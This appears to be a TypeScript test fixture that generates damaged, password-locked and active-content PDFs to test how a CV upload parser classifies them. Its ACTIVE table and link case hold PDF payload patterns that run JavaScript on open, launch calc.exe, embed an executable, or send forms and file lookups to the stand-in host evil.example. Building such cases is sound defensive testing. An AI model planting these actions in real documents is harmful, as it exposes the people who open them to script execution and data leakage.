// A real PDF that is cut short or has flipped bits, and PDFs that are locked.
import { pdfWithPasswords, scannedPdf } from '../hostile.ts'
import { writePdf } from '../make-cv-pdf.ts'
import { seeded } from '../../stack/seeded.ts'
import type { HostileCase } from './case.ts'
import { flate, LINES, page, pdfOf, PAGE, showing, stream } from './write-pdf.ts'

const one = (
  name: string,
  expected: HostileCase['expected'],
  bytes: HostileCase['bytes'],
): HostileCase => ({ name, filename: 'cv.pdf', expected, bytes })

/** The same bytes in every run: a date inside the file would move the damage. */
const whole = () =>
  writePdf(
    (pdf) => {
      for (const line of LINES) pdf.text(line)
      pdf.addPage()
      for (const line of LINES) pdf.text(line, { link: 'https://a.example' })
    },
    { info: { CreationDate: new Date(0) } },
  )

const cut = (share: number, expected: HostileCase['expected']) =>
  one(`cut off at ${share * 100} %`, expected, async () => {
    const bytes = await whole()
    return bytes.slice(0, Math.floor(bytes.length * share))
  })

/** Flips thirty bits of the file. The result depends on which bits. */
const turned = (seed: number, expected: HostileCase['expected']) =>
  one(`thirty bits turned, the ${seed}. way`, expected, async () => {
    const bytes = (await whole()).slice()
    const random = seeded(seed)
    for (let hit = 0; hit < 30; hit++) {
      bytes[Math.floor(random() * bytes.length)]! ^= 1 << Math.floor(random() * 8)
    }
    return bytes
  })

const ACTIVE: Record<string, string> = {
  'a script when opened': '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
  'a program when opened': '/OpenAction << /S /Launch /F (calc.exe) >>',
  'an address when opened': '/OpenAction << /S /URI /URI (http://evil.example) >>',
  'a form sent when opened': '/OpenAction << /S /SubmitForm /F (http://evil.example) >>',
  'scripts at every turn': '/AA << /WC << /S /JavaScript /JS (this.exportDataObject\\(\\)) >> >>',
  'a form of XFA': '/AcroForm << /XFA [(template) 7 0 R] /Fields [] >>',
  'a form in a circle': '/AcroForm << /Fields [8 0 R] >>',
  'a file within': '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>',
  'an outside file':
    '/Names << /EmbeddedFiles << /Names [(a) << /F (\\\\\\\\evil.example\\\\a) >>] >> >>',
}

export const pdfDamage: HostileCase[] = [
  ...[0.01, 0.05, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9].map((share) =>
    cut(share, 'cv.corrupt'),
  ),
  ...[0.97, 0.999].map((share) => cut(share, 'reads')),
  ...[5, 16].map((seed) => turned(seed, 'reads')),
  ...[3, 7, 8, 10, 11].map((seed) => turned(seed, 'cv.scanned')),
  ...[1, 2, 4, 6, 9, 12, 13, 14, 15, 17, 18, 19, 20].map((seed) => turned(seed, 'cv.corrupt')),
]

/**
 * Pages that are locked with an owner's password: their content cannot be seen before decrypting.
 */
const lockedPages = (count: number, operators: string, megabytes: number) =>
  writePdf(
    (pdf) => {
      for (let page = 0; page < count; page++) {
        if (page > 0) pdf.addPage()
        pdf.addContent(operators.repeat((megabytes * 1024 * 1024) / operators.length))
      }
    },
    { ownerPassword: 'owner' },
  )

export const pdfLocked: HostileCase[] = [
  one('a password', 'cv.encrypted', () => pdfWithPasswords({ userPassword: 'u' })),
  one('two passwords', 'cv.encrypted', () =>
    pdfWithPasswords({ userPassword: 'u', ownerPassword: 'o' }),
  ),
  one('a password against changes only', 'reads', () => pdfWithPasswords({ ownerPassword: 'o' })),
  one('an encryption there is not', 'cv.corrupt', () =>
    pdfOf(page({ 7: '<< /Filter /Bogus /V 99 >>' }), {
      trailer: '/Root 1 0 R /Encrypt 7 0 R /ID [(a) (b)]',
    }),
  ),
  one('an encryption that points to itself', 'reads', () =>
    pdfOf(page({ 7: '7 0 R' }), { trailer: '/Root 1 0 R /Encrypt 7 0 R' }),
  ),
  one('a locked page of 40 MB', 'cv.scanned', () => lockedPages(1, '\n', 40)),
  one('ten locked pages of 5 MB', 'cv.unreadable', () => lockedPages(10, 'q Q\n', 5)),
]

export const pdfActive: HostileCase[] = [
  ...Object.entries(ACTIVE).map(([name, catalog]) => ({
    ...one(name, 'reads', () =>
      pdfOf(
        page({
          1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
          7: flate(
            '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>evil()</script></xdp:xdp>',
          ),
          8: '<< /FT /Tx /T (x) /Kids [8 0 R] /Parent 8 0 R >>',
          9: '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
          10: stream('MZ', '/Type /EmbeddedFile'),
        }),
      ),
    ),
    says: 'ordinary line',
  })),
  one('a link that is a script', 'reads', () =>
    pdfOf(
      page({
        3: PAGE.replace('/Type /Page ', '/Type /Page /Annots [7 0 R] '),
        7: '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
      }),
    ),
  ),
  one('a page that is a picture', 'cv.scanned', scannedPdf),
  one('pages with nothing on them', 'cv.scanned', () => writePdf((pdf) => pdf.addPage().addPage())),
  one('a page of blanks', 'cv.scanned', () =>
    pdfOf(page({ 4: stream(showing([' '.repeat(90)])) })),
  ),
  one('a page of marks', 'cv.empty', () => pdfOf(page({ 4: stream(showing(['.-'.repeat(90)])) }))),
]
